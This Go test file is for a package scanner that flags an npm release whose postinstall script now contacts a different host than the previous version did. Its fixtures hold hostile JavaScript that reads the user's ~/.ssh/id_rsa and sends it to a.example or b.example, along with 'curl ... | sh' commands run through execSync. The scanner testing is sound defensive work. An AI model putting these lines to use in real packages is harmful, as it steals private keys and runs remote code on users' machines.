package content

import (
	"testing"
	"testing/fstest"
	"time"

	"github.com/kennel-oss/kennel"
)

// The same chain to the same place is as before; to another, it is not.
func TestMoved(t *testing.T) {
	const manifest = `{"name":"a","scripts":{"postinstall":"node setup"}}`
	send := func(request string) string {
		return "const s=require('fs').readFileSync(require('os').homedir()+'/.ssh/id_rsa');require('https').request(" + request + ").end(s)"
	}
	for name, c := range map[string]struct {
		was, is string
		review  bool
	}{
		"same":        {was: send("'https://a.example/1'"), is: send("'https://a.example/2'")},
		"other":       {was: send("'https://a.example/1'"), is: send("'https://b.example/1'"), review: true},
		"other host":  {was: send("{hostname:'a.example'}"), is: send("{hostname:'b.example'}"), review: true},
		"other shell": {was: "require('child_process').execSync('curl https://a.example | sh')", is: "require('child_process').execSync('curl https://b.example | sh')", review: true},
		"same shell":  {was: "require('child_process').execSync('curl https://a.example/1 | sh')", is: "require('child_process').execSync('curl https://a.example/2 | sh')"},
	} {
		tree := func(text string) fstest.MapFS {
			return fstest.MapFS{"package.json": {Data: []byte(manifest)}, "setup.js": {Data: []byte(text)}}
		}
		component := kennel.Component{Package: kennel.Package{Ecosystem: kennel.NPM, Name: "a"}, Version: "2.0.0"}
		findings, err := New().Examine(t.Context(), kennel.NewSubject(component, time.Time{}, kennel.Grants{Release: tree(c.is), Previous: tree(c.was)}))
		if err != nil {
			t.Fatal(err)
		}
		review := false
		for _, f := range findings {
			review = review || f.Severity >= kennel.SeverityMedium
		}
		if review != c.review {
			t.Errorf("%s: review %t: %+v", name, review, findings)
		}
	}
}
